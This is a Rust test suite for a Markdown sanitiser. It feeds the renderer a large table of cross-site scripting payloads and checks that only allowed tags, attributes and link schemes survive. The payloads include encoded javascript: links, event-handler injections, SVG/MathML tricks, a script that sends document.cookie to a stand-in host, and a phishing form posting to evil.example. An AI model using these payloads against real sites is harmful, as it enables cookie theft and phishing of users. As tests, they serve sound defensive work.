//! The Markdown sanitiser under attack: hostile submissions must leave only the allowed tags,
//! attributes and link schemes, in the whole story and in every citable block, while raw HTML
//! stays visible as text and ordinary Markdown still renders.

use chorus::markdown::{render, render_blocks, LINK_REL};
use scraper::{ElementRef, Html, Selector};

/// Tags the renderer may emit. `html` is the root that the fragment parser adds itself.
/// Written out again on purpose rather than imported: the test must not trust the list it checks.
const ALLOWED_TAGS: &[&str] = &[
    "html",
    "p",
    "br",
    "em",
    "strong",
    "del",
    "a",
    "ul",
    "ol",
    "li",
    "blockquote",
    "code",
    "pre",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// Schemes a published link may use; everything else, relative links included, loses its href.
const ALLOWED_SCHEMES: &[&str] = &["http", "https", "mailto"];

/// A JavaScript payload, base64 of `<script>alert(1)</script>`, for `data:` URLs.
const B64_SCRIPT: &str = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

/// Hostile submissions, each named for the trick it tries: (name, Markdown source).
fn hostile_cases() -> Vec<(&'static str, String)> {
    let s = |v: &str| v.to_owned();
    vec![
        // Script tags, however they are dressed.
        ("script tag, plain", s("<script>alert(1)</script>")),
        ("script tag, upper case", s("<SCRIPT>alert(1)</SCRIPT>")),
        (
            "script tag, mixed case with external src",
            s("<ScRiPt src=\"https://evil.example/x.js\"></sCrIpT>"),
        ),
        (
            "script tag, split across lines",
            s("<script\n>alert(1)\n</script\n>"),
        ),
        (
            "script tag, as an HTML block between paragraphs",
            s("Before.\n\n<script>\nfetch('https://evil.example/?c='+document.cookie)\n</script>\n\nAfter."),
        ),
        (
            "script tag, inline in a sentence",
            s("The nurse said <script>alert(document.cookie)</script> and left."),
        ),
        (
            "script tag, inside a list item",
            s("- first\n- <script>alert(1)</script>\n- third"),
        ),
        (
            "script tag, inside a blockquote",
            s("> What they wrote in my notes:\n> <script>alert(1)</script>"),
        ),
        (
            "script tag, inside a table cell",
            s("| when | what |\n| --- | --- |\n| spring | <script>alert(1)</script> |"),
        ),
        (
            "script tag, deep inside nested blockquotes",
            format!("{}<script>alert(1)</script>", "> ".repeat(40)),
        ),
        // Event handlers.
        ("img with onerror", s("<img src=x onerror=alert(1)>")),
        (
            "anchor with onmouseover",
            s("<a href=\"https://example.org\" onmouseover=\"alert(1)\">hover</a>"),
        ),
        ("body with onload", s("<body onload=alert(1)>")),
        ("details with ontoggle", s("<details open ontoggle=alert(1)><summary>x</summary></details>")),
        ("video source with onerror", s("<video><source onerror=\"alert(1)\"></video>")),
        // Markdown links with dangerous or disguised schemes.
        ("markdown link, javascript:", s("[x](javascript:alert(1))")),
        ("markdown link, JaVaScRiPt: mixed case", s("[x](JaVaScRiPt:alert(1))")),
        ("markdown link, tab entity inside the scheme", s("[x](java&#x09;script:alert(1))")),
        ("markdown link, decimal entity for the j", s("[x](&#106;avascript:alert(1))")),
        ("markdown link, hex entity for the colon", s("[x](javascript&#x3A;alert(1))")),
        ("markdown link, percent-encoded j", s("[x](%6Aavascript:alert(1))")),
        (
            "markdown link, leading space in angle brackets",
            s("[x](< javascript:alert(1)>)"),
        ),
        (
            "markdown link, leading control characters",
            s("[x](<\u{1}\u{1f}javascript:alert(1)>)"),
        ),
        (
            "markdown link, zero-width space inside the scheme",
            s("[x](java\u{200b}script:alert(1))"),
        ),
        ("markdown link, vbscript:", s("[x](vbscript:msgbox(1))")),
        (
            "markdown link, data:text/html base64",
            format!("[x](data:text/html;base64,{B64_SCRIPT})"),
        ),
        ("raw anchor, javascript: href", s("<a href=\"javascript:alert(1)\">click</a>")),
        // Autolinks and reference definitions.
        ("autolink, javascript:", s("<javascript:alert(1)>")),
        ("autolink, data:", s("<data:text/html,alert(1)>")),
        (
            "reference definition, javascript:",
            s("Read [my notes][ref].\n\n[ref]: javascript:alert(1)"),
        ),
        (
            "reference definition, title breaking out of its quotes",
            s("[x][ref]\n\n[ref]: https://example.org \"a\\\" onclick=\\\"alert(1)\""),
        ),
        (
            "link title, double quote breaking out",
            s("[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")"),
        ),
        (
            "link title, single quote breaking out",
            s("[x](https://example.org 'x\\' onmouseover=\\'alert(1)')"),
        ),
        (
            "link destination, quote breaking out of href",
            s("[x](https://example.org/\"onmouseover=\"alert(1))"),
        ),
        ("link text holding raw HTML", s("[<img src=x onerror=alert(1)>](https://example.org)")),
        (
            "markdown link, leading space before an unbracketed scheme",
            s("[x]( javascript:alert(1))"),
        ),
        (
            "markdown link, leading control character unbracketed",
            s("[x](\u{1}javascript:alert(1))"),
        ),
        (
            "nested link, inner javascript: inside an outer https link",
            s("[a [b](javascript:alert(1))](https://example.org)"),
        ),
        (
            "span with class and id spoofing a paragraph anchor",
            s("<span class=\"para\" id=\"p1\">not really paragraph 1</span>"),
        ),
        ("div HTML block wrapping a script", s("<div>\n<script>alert(1)</script>\n</div>")),
        ("script tag, name split across lines", s("<scr\nipt>alert(1)</scr\nipt>")),
        // Relative and scheme-relative links.
        ("protocol-relative link", s("[x](//evil.example/path)")),
        ("slash-backslash link", s("[x](/\\evil.example)")),
        ("relative link into the moderation pages", s("[x](/moderate/queue)")),
        // Images: never an img, never a request to another site.
        ("image, javascript: source", s("![x](javascript:alert(1))")),
        (
            "image, tracking pixel",
            s("![a photo of the ward](https://tracker.example/pixel.png)"),
        ),
        (
            "image, data:image svg",
            s("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        ),
        (
            "image, inside a link",
            s("[![x](https://tracker.example/p.png)](https://example.org)"),
        ),
        // Embedding, navigation and form tags.
        ("iframe", s("<iframe src=\"https://evil.example\"></iframe>")),
        ("iframe with srcdoc", s("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")),
        ("object with javascript: data", s("<object data=\"javascript:alert(1)\"></object>")),
        ("embed with data: src", format!("<embed src=\"data:text/html;base64,{B64_SCRIPT}\">")),
        (
            "form asking for the receipt code",
            s("<form action=\"https://evil.example/steal\"><input name=\"code\" placeholder=\"Your receipt code\"><button>Check</button></form>"),
        ),
        (
            "meta refresh",
            s("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"),
        ),
        ("base href", s("<base href=\"https://evil.example/\">")),
        (
            "link stylesheet",
            s("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"),
        ),
        ("style tag", s("<style>body { display: none }</style>")),
        (
            "inline style faking a notice over the page",
            s("<p style=\"position:fixed;inset:0;background:red\">Your story was rejected</p>"),
        ),
        // SVG and MathML.
        ("svg with onload and script", s("<svg onload=alert(1)><script>alert(2)</script></svg>")),
        (
            "svg anchor with xlink:href",
            s("<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"10\">x</text></a></svg>"),
        ),
        (
            "mathml with script in mtext",
            s("<math><mtext><script>alert(1)</script></mtext></math>"),
        ),
        (
            "mathml maction with javascript: href",
            s("<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>"),
        ),
        // Comments, CDATA, and parser-confusion tricks.
        ("HTML comment hiding a script", s("<!-- <script>alert(1)</script> -->")),
        ("HTML comment inline", s("before <!-- hidden --> after")),
        ("CDATA section", s("<![CDATA[<script>alert(1)</script>]]>")),
        ("processing instruction", s("<?php echo 1; ?>")),
        ("doctype", s("<!DOCTYPE html>")),
        (
            "noscript mutation trick",
            s("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ),
        (
            "textarea closing early",
            s("<textarea></textarea><script>alert(1)</script>"),
        ),
        // Entities.
        ("entity-encoded script tag", s("&lt;script&gt;alert(1)&lt;/script&gt;")),
        ("double-encoded script tag", s("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;")),
        ("numeric-entity script tag", s("&#60;script&#62;alert(1)&#60;/script&#62;")),
        // Markdown structure wrapped around HTML.
        (
            "nested emphasis around raw HTML",
            s("***<b onclick=alert(1)>_really_</b>***"),
        ),
        ("emphasis around an img", s("*<img src=x onerror=alert(1)>*")),
        ("strikethrough around an iframe", s("~~<iframe src=\"https://evil.example\"></iframe>~~")),
        (
            "table cell with raw HTML",
            s("| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | <a href=\"javascript:alert(1)\">x</a> |"),
        ),
        (
            "table cell with javascript: link",
            s("| a |\n| --- |\n| [x](javascript:alert(1)) |"),
        ),
        (
            "table alignment, which the renderer writes as style",
            s("| left | right |\n| :--- | ---: |\n| 1 | 2 |"),
        ),
        (
            "fenced code, info string breaking out",
            s("```\"><script>alert(1)</script>\ncode\n```"),
        ),
        ("fenced code, language class", s("```html\n<script>alert(1)</script>\n```")),
        ("inline code holding a script tag", s("`<script>alert(1)</script>`")),
        (
            "heading with attribute syntax",
            s("# Title {#main .hidden onclick=alert(1)}"),
        ),
        (
            "ordered list holding a raw ol with handler",
            s("3. <ol start=1 onclick=alert(1)>"),
        ),
        ("hard break next to a raw br", s("line one  \n<br onload=alert(1)>")),
        (
            "mailto link with raw HTML in the query",
            s("[write](mailto:someone@example.org?subject=<script>)"),
        ),
    ]
}

/// Why an HTML fragment breaks the allow-list, one line per problem; empty when it is clean.
fn violations(html: &str) -> Vec<String> {
    let doc = Html::parse_fragment(html);
    let mut problems = Vec::new();
    for element in doc
        .root_element()
        .descendants()
        .filter_map(ElementRef::wrap)
    {
        let el = element.value();
        let tag = el.name();
        if !ALLOWED_TAGS.contains(&tag) {
            problems.push(format!("tag <{tag}> is not allowed"));
        }
        for (name, value) in el.attrs() {
            let lower = name.to_ascii_lowercase();
            let allowed = matches!(
                (tag, lower.as_str()),
                ("a", "href" | "rel") | ("ol", "start")
            );
            if !allowed {
                problems.push(format!(
                    "attribute {name}={value:?} on <{tag}> is not allowed"
                ));
            }
            if lower.starts_with("on") {
                problems.push(format!("event handler {name} on <{tag}>"));
            }
            if matches!(lower.as_str(), "style" | "class" | "id") {
                problems.push(format!("{name} attribute on <{tag}>"));
            }
        }
        if let Some(href) = el.attr("href") {
            let scheme = href
                .trim()
                .split_once(':')
                .map(|(scheme, _)| scheme.trim().to_ascii_lowercase());
            match scheme {
                Some(scheme) if ALLOWED_SCHEMES.contains(&scheme.as_str()) => {}
                _ => problems.push(format!("href {href:?} has no allowed scheme")),
            }
        }
        if tag == "a" && el.attr("rel") != Some(LINK_REL) {
            problems.push(format!(
                "<a> has rel {:?}, not {LINK_REL:?}",
                el.attr("rel")
            ));
        }
    }
    problems
}

/// The text a reader sees, with the markup taken away.
fn visible_text(html: &str) -> String {
    Html::parse_fragment(html).root_element().text().collect()
}

fn hostile(name: &str) -> String {
    hostile_cases()
        .into_iter()
        .find(|(n, _)| *n == name)
        .unwrap_or_else(|| panic!("no hostile case named {name:?}"))
        .1
}

/// Panics with every failing case, its source and the offending output, not just the first.
fn assert_no_failures(what: &str, failures: Vec<String>) {
    assert!(
        failures.is_empty(),
        "{what}: {} case(s) failed\n\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn hostile_case_table_is_large_and_each_name_is_unique() {
    let cases = hostile_cases();
    assert!(cases.len() >= 35, "only {} hostile cases", cases.len());
    let mut names: Vec<_> = cases.iter().map(|(n, _)| *n).collect();
    names.sort_unstable();
    let before = names.len();
    names.dedup();
    assert_eq!(
        before,
        names.len(),
        "case names must be unique so failures point at one case"
    );
}

#[test]
fn structural_check_rejects_what_it_must_and_accepts_plain_markup() {
    // The checker must be able to fail, or the hostile-input tests would prove nothing.
    let rel = format!("rel=\"{LINK_REL}\"");
    for bad in [
        "<script>alert(1)</script>".to_owned(),
        "<p onclick=\"alert(1)\">x</p>".to_owned(),
        "<p style=\"color:red\">x</p>".to_owned(),
        "<p class=\"x\">x</p>".to_owned(),
        "<img src=\"x\">".to_owned(),
        format!("<a href=\"javascript:alert(1)\" {rel}>x</a>"),
        format!("<a href=\"/relative\" {rel}>x</a>"),
        format!("<a href=\"https://example.org\" title=\"t\" {rel}>x</a>"),
        "<a href=\"https://example.org\">no rel</a>".to_owned(),
        "<a href=\"https://example.org\" rel=\"noopener\">wrong rel</a>".to_owned(),
    ] {
        assert!(!violations(&bad).is_empty(), "the check let through {bad}");
    }
    let good = format!(
        "<p><em>a</em> <a href=\"mailto:x@example.org\" {rel}>b</a></p><ol start=\"3\"><li>c</li></ol>"
    );
    assert_eq!(violations(&good), Vec::<String>::new(), "{good}");
}

#[test]
fn hostile_inputs_leave_only_allowed_tags_attributes_and_schemes() {
    let mut failures = Vec::new();
    for (name, src) in hostile_cases() {
        let html = render(&src);
        let problems = violations(&html);
        if !problems.is_empty() {
            failures.push(format!(
                "case {name:?}\n  source: {src:?}\n  output: {html:?}\n  - {}",
                problems.join("\n  - ")
            ));
        }
    }
    assert_no_failures("render", failures);
}

#[test]
fn hostile_inputs_leave_only_allowed_tags_in_every_citable_block() {
    let mut failures = Vec::new();
    for (name, src) in hostile_cases() {
        for (i, block) in render_blocks(&src).iter().enumerate() {
            let problems = violations(&block.html);
            if !problems.is_empty() {
                failures.push(format!(
                    "case {name:?}, block {i}\n  source: {src:?}\n  output: {:?}\n  - {}",
                    block.html,
                    problems.join("\n  - ")
                ));
            }
        }
    }
    assert_no_failures("render_blocks", failures);
}

#[test]
fn hostile_inputs_render_to_the_same_html_whole_or_block_by_block() {
    // The story page is built from blocks, the preview from `render`: the contributor must see
    // exactly what will be published.
    let mut failures = Vec::new();
    for (name, src) in hostile_cases() {
        let whole = render(&src);
        let joined: String = render_blocks(&src).into_iter().map(|b| b.html).collect();
        if whole.split_whitespace().ne(joined.split_whitespace()) {
            failures.push(format!(
                "case {name:?}\n  render: {whole:?}\n  blocks: {joined:?}"
            ));
        }
    }
    assert_no_failures("render vs render_blocks", failures);
}

#[test]
fn raw_script_tag_is_shown_escaped_so_the_contributor_sees_what_they_wrote() {
    let html = render(&hostile("script tag, plain"));
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "output: {html}"
    );
    assert!(
        !html.to_ascii_lowercase().contains("<script"),
        "output: {html}"
    );
}

#[test]
fn raw_html_tags_stay_visible_as_text_wherever_they_appear() {
    let cases = [
        ("img with onerror", "<img src=x onerror=alert(1)>"),
        ("anchor with onmouseover", "onmouseover=\"alert(1)\""),
        (
            "span with class and id spoofing a paragraph anchor",
            "<span class=\"para\" id=\"p1\">",
        ),
        ("iframe", "<iframe src=\"https://evil.example\"></iframe>"),
        (
            "script tag, inside a list item",
            "<script>alert(1)</script>",
        ),
        (
            "script tag, inside a blockquote",
            "<script>alert(1)</script>",
        ),
        (
            "script tag, inside a table cell",
            "<script>alert(1)</script>",
        ),
        ("style tag", "<style>body { display: none }</style>"),
        (
            "HTML comment hiding a script",
            "<!-- <script>alert(1)</script> -->",
        ),
        ("CDATA section", "<![CDATA[<script>alert(1)</script>]]>"),
    ];
    let mut failures = Vec::new();
    for (name, expected) in cases {
        let html = render(&hostile(name));
        if !visible_text(&html).contains(expected) {
            failures.push(format!(
                "case {name:?}: text {expected:?} not visible\n  output: {html:?}"
            ));
        }
    }
    assert_no_failures("visible as text", failures);
}

#[test]
fn entity_encoded_tags_are_shown_as_the_characters_they_encode() {
    let html = render(&hostile("entity-encoded script tag"));
    assert_eq!(
        visible_text(&html).trim(),
        "<script>alert(1)</script>",
        "output: {html}"
    );
}

#[test]
fn dangerous_link_keeps_its_words_but_loses_its_href() {
    for name in [
        "markdown link, javascript:",
        "markdown link, tab entity inside the scheme",
        "reference definition, javascript:",
        "protocol-relative link",
    ] {
        let html = render(&hostile(name));
        let doc = Html::parse_fragment(&html);
        let link_text: String = doc.root_element().text().collect();
        assert!(
            link_text.contains('x') || link_text.contains("my notes"),
            "case {name:?}: {html}"
        );
        let hrefs = doc.select(&Selector::parse("a[href]").unwrap()).count();
        assert_eq!(hrefs, 0, "case {name:?} kept an href: {html}");
    }
}

#[test]
fn link_titles_are_dropped_so_no_text_hides_in_a_tooltip() {
    // A title is shown only on hover: identifying or defamatory words could hide there from a
    // reader skimming the page, so the allow-list has no `title` at all.
    let html = render("[the report](https://example.org \"written by Dr A. Named\")");
    assert!(!html.contains("title="), "output: {html}");
    assert!(!html.contains("Named"), "output: {html}");
}

#[test]
fn images_become_their_alt_text_and_request_nothing_from_other_sites() {
    let html = render(&hostile("image, tracking pixel"));
    assert!(!html.contains("<img"), "output: {html}");
    assert!(!html.contains("tracker.example"), "output: {html}");
    assert_eq!(
        visible_text(&html).trim(),
        "a photo of the ward",
        "output: {html}"
    );
}

#[test]
fn http_and_https_links_keep_their_address_and_carry_link_rel() {
    let html = render("[one](https://example.org/a) and [two](http://example.org/b)");
    let doc = Html::parse_fragment(&html);
    let links: Vec<_> = doc.select(&Selector::parse("a").unwrap()).collect();
    let hrefs: Vec<_> = links.iter().map(|a| a.value().attr("href")).collect();
    assert_eq!(
        hrefs,
        [Some("https://example.org/a"), Some("http://example.org/b")],
        "output: {html}"
    );
    for a in links {
        assert_eq!(a.value().attr("rel"), Some(LINK_REL), "output: {html}");
    }
}

#[test]
fn mailto_links_are_allowed() {
    let html = render("[write to them](mailto:info@example.org)");
    let doc = Html::parse_fragment(&html);
    let a = doc
        .select(&Selector::parse("a").unwrap())
        .next()
        .expect("a link");
    assert_eq!(
        a.value().attr("href"),
        Some("mailto:info@example.org"),
        "output: {html}"
    );
    assert_eq!(a.value().attr("rel"), Some(LINK_REL), "output: {html}");
}

#[test]
fn emphasis_strong_and_strikethrough_still_render() {
    let html = render("I was *finally* **heard**, not ~~dismissed~~.");
    let doc = Html::parse_fragment(&html);
    for (selector, text) in [("em", "finally"), ("strong", "heard"), ("del", "dismissed")] {
        let el = doc.select(&Selector::parse(selector).unwrap()).next();
        let got: Option<String> = el.map(|e| e.text().collect());
        assert_eq!(got.as_deref(), Some(text), "<{selector}> in {html}");
    }
}

#[test]
fn lists_still_render_and_ordered_lists_keep_their_start() {
    let html = render("- one\n- two\n\n3. three\n4. four");
    let doc = Html::parse_fragment(&html);
    let count = |s: &str| doc.select(&Selector::parse(s).unwrap()).count();
    assert_eq!(count("ul > li"), 2, "output: {html}");
    assert_eq!(count("ol > li"), 2, "output: {html}");
    let ol = doc.select(&Selector::parse("ol").unwrap()).next().unwrap();
    assert_eq!(ol.value().attr("start"), Some("3"), "output: {html}");
}

#[test]
fn tables_still_render_without_alignment_styles() {
    let html = render(&hostile(
        "table alignment, which the renderer writes as style",
    ));
    let doc = Html::parse_fragment(&html);
    let count = |s: &str| doc.select(&Selector::parse(s).unwrap()).count();
    assert_eq!(count("table thead tr th"), 2, "output: {html}");
    assert_eq!(count("table tbody tr td"), 2, "output: {html}");
    assert_eq!(count("[style]"), 0, "output: {html}");
}

#[test]
fn blockquotes_and_headings_still_render() {
    let html = render("# When it happened\n\n> They wrote it down.");
    let doc = Html::parse_fragment(&html);
    let count = |s: &str| doc.select(&Selector::parse(s).unwrap()).count();
    assert_eq!(count("h1"), 1, "output: {html}");
    assert_eq!(count("blockquote > p"), 1, "output: {html}");
}

#[test]
fn inline_and_fenced_code_still_render() {
    let html = render("Type `chorus serve` to start.\n\n```\nchorus serve\n```");
    let doc = Html::parse_fragment(&html);
    let count = |s: &str| doc.select(&Selector::parse(s).unwrap()).count();
    assert_eq!(count("p > code"), 1, "output: {html}");
    assert_eq!(count("pre > code"), 1, "output: {html}");
}
